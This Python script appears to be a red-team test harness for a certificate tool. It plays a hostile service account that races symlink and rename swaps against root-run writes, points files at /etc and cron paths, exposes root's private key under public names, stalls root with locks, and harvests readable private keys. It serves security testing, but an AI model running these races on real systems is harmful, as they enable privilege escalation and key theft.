# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright: privatepki.stepca contributors

"""What a service account may try that owns a folder which root writes to. It runs as that account, with Python 3.9.

plant:  read [[path, what], ...] from standard input, and put links, files, pipes and the like there
clean:  take them away again
race:   exchange names in FOLDER until SIGTERM, as MODE says, as fast as it can
hold:   hold locks (flock) or leases (fcntl(2)) on all that can be opened below FOLDER
swap:   exchange what lies in two folders
thieve: keep a copy of every private key that can be read below FOLDER, for a moment or for ever
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import random
import shutil
import signal
import socket
import stat
import sys
import time

NAMES = (
    "site.crt",
    "site.key",
    "chain.pem",
    "leaf.pem",
    "root.pem",
    "site.pem",
    "site.p12",
    "stepca.prom",
    "roots.pem",
)
AREA = ".stepca.0"
CANARY = "/root/canary.d"
# What a race has just done, and for how many seconds at most it leaves it so.
HONEST, EVIL = "honest", "evil"
PAUSES = {HONEST: (0.0001, 0.001, 0.01), EVIL: (0.0001, 0.0005)}
LIBC = ctypes.CDLL(None, use_errno=True)


def exchange(one: str, other: str) -> bool:
    """Let two names change places as one; False where there are none, or somebody was faster."""
    if hasattr(LIBC, "renameat2"):
        return LIBC.renameat2(-100, one.encode(), -100, other.encode(), 2) == 0
    spare = one + ".spare"
    with contextlib.suppress(OSError):
        os.rename(one, spare)
        os.rename(other, one)
        os.rename(spare, other)
        return True
    return False


def remove(path: str) -> None:
    with contextlib.suppress(OSError):
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path, ignore_errors=True)
        else:
            os.unlink(path)


def write(path: str, content: bytes = b"planted\n") -> None:
    with open(path, "wb") as stream:
        stream.write(content)
    os.chmod(path, 0o666)


def own_key() -> bytes:
    with open("/etc/redteam/attacker.key", "rb") as stream:
        return stream.read()


def make(path: str, what: str) -> None:
    """Put something there: what is link:TARGET, hard:TARGET, copy:SOURCE, or a word."""
    word, _colon, detail = what.partition(":")
    if word == "link":
        os.symlink(detail, path)
    elif word == "hard":
        os.link(detail, path)
    elif word == "copy":
        with open(detail, "rb") as stream:
            write(path, stream.read())
    elif word == "text":
        write(path, detail.encode())
    elif word == "file":
        write(path)
    elif word == "key":
        write(path, own_key())
    elif word == "pipe":
        os.mkfifo(path, 0o666)
    elif word == "folder":
        os.mkdir(path, 0o777)
        write(path + "/planted")
    elif word == "closed":
        os.mkdir(path, 0o700)
    elif word == "socket":
        with socket.socket(socket.AF_UNIX) as one:
            os.chdir(os.path.dirname(path))
            one.bind(os.path.basename(path))
    elif word == "large":
        with open(path, "wb") as stream:
            stream.truncate(1 << 40)
    elif word == "twice":
        write(path)
        os.link(path, path + ".twin")
    else:
        raise SystemExit("what is %s?" % what)


def plant(listed: list) -> None:
    """What root has there already waits under another name."""
    for path, what in listed:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            os.rename(path, path + ".kept")
        make(path, what)


def clean(listed: list) -> None:
    for path, _what in reversed(listed):
        if mine(path) or os.path.lexists(path + ".kept"):
            remove(path)
        remove(path + ".twin")
        if os.path.lexists(path + ".kept"):
            os.rename(path + ".kept", path)


def mine(path: str) -> bool:
    with contextlib.suppress(OSError):
        return os.lstat(path).st_uid == os.getuid()
    return False


def swap_folder(levels: int, what: str):
    """The folder, or with levels one above it, and something else under the same name."""

    def race(folder: str):
        honest = folder
        for _level in range(levels):
            honest = os.path.dirname(honest)
        evil = honest + ".evil"
        inode = os.lstat(honest).st_ino
        try:
            while True:
                if not os.path.lexists(evil):
                    make(evil, what)
                exchange(honest, evil)
                yield EVIL
                exchange(honest, evil)
                yield HONEST
        finally:
            if os.lstat(honest).st_ino != inode:
                exchange(honest, evil)

    return race


def swap_target(*kinds: str):
    """Each target in turn, and something of the attacker's."""

    def race(folder: str):
        spare = folder + "/.spare"
        while True:
            path = "%s/%s" % (folder, random.choice(NAMES))
            if not os.path.lexists(path):
                continue
            remove(spare)
            try:
                make(spare, random.choice(kinds).replace("NAME", os.path.basename(path)))
                exchange(spare, path)
                yield EVIL
            finally:
                if mine(path) and not mine(spare):
                    exchange(spare, path)
            yield HONEST

    return race


def mix(folder: str):
    """Root's own files under each other's names: the key as something that all may read."""
    key = folder + "/site.key"
    while True:
        path = "%s/%s" % (folder, random.choice(("chain.pem", "leaf.pem", "root.pem", "site.crt")))
        exchanged = False
        try:
            exchanged = exchange(key, path)
            yield EVIL
        finally:
            if exchanged:
                exchange(key, path)
        yield HONEST


def publish(folder: str):
    """A copy of the attacker's, which root will want to mend, and root's key under that name while it does."""
    key, spare = folder + "/site.key", folder + "/.spare"
    while True:
        path = "%s/%s" % (folder, random.choice(("chain.pem", "leaf.pem", "root.pem", "site.crt")))
        if not mine(path):
            remove(spare)
            make(spare, "copy:" + path)
            exchange(spare, path)
        for _time in range(8):
            yield HONEST
            if exchange(key, path):
                try:
                    yield EVIL
                finally:
                    exchange(key, path)


def swap_area(what: str):
    """The subfolder in which root's files wait, whenever there is one."""

    def race(folder: str):
        area, evil = "%s/%s" % (folder, AREA), folder + "/.evil"
        try:
            while True:
                if not os.path.lexists(evil):
                    make(evil, what)
                for _time in range(random.randrange(200)):
                    if exchange(area, evil):
                        yield EVIL
                        exchange(area, evil)
                        break
                yield HONEST
        finally:
            if mine(area):
                remove(area)

    return race


def squat(folder: str):
    """Whatever root is about to make is there already, and leads elsewhere."""
    names = [".site.crt.stepca.json", ".site.crt.stepca.backup", ".site.crt.stepca-new", *NAMES]
    planted = []
    try:
        while True:
            planted = [*names, AREA][random.randrange(len(names)) :]
            for name in planted:
                with contextlib.suppress(OSError):
                    os.symlink("%s/%s" % (CANARY, name), "%s/%s" % (folder, name))
            yield EVIL
            for name in planted:
                if mine("%s/%s" % (folder, name)):
                    remove("%s/%s" % (folder, name))
            yield HONEST
    finally:
        for name in planted:
            if mine("%s/%s" % (folder, name)):
                remove("%s/%s" % (folder, name))


def wipe(folder: str):
    """Nothing of root's stays where it is."""
    away = folder + "/.away"
    while True:
        path = "%s/%s" % (folder, random.choice((AREA, *NAMES)))
        if os.path.lexists(path):
            try:
                os.rename(path, away)
                yield EVIL
            finally:
                os.rename(away, path)
        yield HONEST


MODES = {
    "the folder is a link to one of root's": swap_folder(0, "link:" + CANARY),
    "the folder is a link to /etc": swap_folder(0, "link:/etc"),
    "the folder is another one": swap_folder(0, "folder"),
    "the folder above is a link to one of root's": swap_folder(1, "link:/root/canary.parent"),
    "a file is a link": swap_target("link:%s/NAME" % CANARY, "link:/root/canary.shadow", "link:/etc/cron.d/redteam"),
    "a file is the attacker's": swap_target("file", "key", "twice", "large"),
    "a file is a pipe, folder or socket": swap_target("pipe", "folder", "socket"),
    "root's files are exchanged": mix,
    "root's key is where root mends an owner": publish,
    "the staging folder is a link": swap_area("link:" + CANARY),
    "the staging folder is the attacker's": swap_area("closed"),
    "every name is taken": squat,
    "files vanish": wipe,
}


class Ended(Exception):
    """SIGTERM came."""


class Paused(Exception):
    """SIGUSR1 came: be honest until SIGUSR2 comes."""


def end(_number, _frame) -> None:
    raise Ended


def pause(_number, _frame) -> None:
    raise Paused


def endless(mode: str, folder: str):
    """Its steps, whatever fails."""
    while True:
        with contextlib.suppress(OSError):
            yield from MODES[mode](folder)
        yield HONEST


def race(words: list) -> None:
    """One step of each in turn; words: MODE FOLDER MODE FOLDER..."""
    os.nice(5)
    steps = 0
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR2])
    signal.signal(signal.SIGUSR1, pause)
    with contextlib.suppress(Ended):
        while True:
            races = [endless(mode, folder) for mode, folder in zip(words[::2], words[1::2])]
            print("begun", flush=True)
            try:
                while True:
                    for one in races:
                        state = next(one)
                        steps += 1
                        if random.random() < 0.7:  # evil for a moment, so that root comes to every place
                            time.sleep(random.random() * random.choice(PAUSES[state]) / len(races))
            except Paused:
                pass
            finally:
                for one in races:
                    with contextlib.suppress(OSError):
                        one.close()
            print("paused", flush=True)
            signal.sigwait([signal.SIGUSR2])
    print(steps)


def walk(folders: list):
    """All files below these folders, as far as they can be seen."""
    for folder in folders:
        for path, _folders, names in os.walk(folder):
            for name in names:
                yield os.path.join(path, name)


def hold(kind: str, folders: list) -> None:
    """Never let go of a lock, or have root wait for a lease to end (fcntl(2): 45 s, then again)."""
    held = {}
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    print("begun", flush=True)
    with contextlib.suppress(Ended):
        while True:
            if kind == "flock":
                for path in [*folders, *walk(folders)]:
                    take(path, held, lambda one: fcntl.flock(one, fcntl.LOCK_EX | fcntl.LOCK_NB))
            else:
                for path in walk(folders):
                    if mine(path):
                        held.pop(path, None)
                        take(path, held, lambda one: fcntl.fcntl(one, fcntl.F_SETLEASE, fcntl.F_WRLCK))
            time.sleep(0.005)
    print(len(held))


def take(path: str, held: dict, lock) -> None:
    with contextlib.suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
        if any(os.path.samestat(os.fstat(descriptor), os.fstat(one)) for one in held.values()):
            os.close(descriptor)
            return
        try:
            lock(descriptor)
            held[path] = descriptor
        except OSError:
            os.close(descriptor)


def thieve(loot: str, folders: list) -> None:
    os.nice(5)
    opened, kept = 0, set()
    print("begun", flush=True)
    with contextlib.suppress(Ended):
        while True:
            for path in walk(folders):
                with contextlib.suppress(OSError):
                    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
                    with os.fdopen(descriptor, "rb") as stream:
                        status = os.fstat(descriptor)
                        opened += 1
                        if not stat.S_ISREG(status.st_mode) or status.st_uid == os.getuid():
                            continue
                        content = stream.read(100000)
                    secret = b"PRIVATE KEY" in content or b"canary" in content or path.endswith(".p12")
                    if secret and content not in kept:
                        kept.add(content)
                        with open("%s/%d.%d" % (loot, os.getpid(), len(kept)), "wb") as taken:
                            taken.write(b"%d %s\n%s" % (status.st_uid, path.encode(), content))
            time.sleep(0.002)
    print(opened)


def main(words: list) -> None:
    signal.signal(signal.SIGTERM, end)
    command, rest = words[0], words[1:]
    if command == "plant":
        plant(json.load(sys.stdin))
    elif command == "clean":
        clean(json.load(sys.stdin))
    elif command == "swap":
        for name in NAMES:
            exchange("%s/%s" % (rest[0], name), "%s/%s" % (rest[1], name))
    elif command == "race":
        race(rest)
    elif command == "hold":
        hold(rest[0], rest[1:])
    elif command == "thieve":
        thieve(rest[0], rest[1:])


if __name__ == "__main__":
    main(sys.argv[1:])
